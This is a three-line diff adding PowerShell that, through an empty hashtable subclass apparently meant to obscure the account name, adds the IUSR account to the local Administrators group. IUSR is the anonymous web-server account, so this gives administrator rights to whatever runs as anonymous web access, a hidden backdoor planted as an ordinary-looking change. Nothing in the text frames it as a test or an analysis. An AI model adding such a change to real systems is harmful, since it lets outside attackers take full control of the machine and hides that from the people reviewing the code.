@@ -1,0 +1,3 @@
+class D : hashtable { }
+$d = [D]::new(); $d['who'] = 'IUSR'
+Add-LocalGroupMember Administrators $d['who']
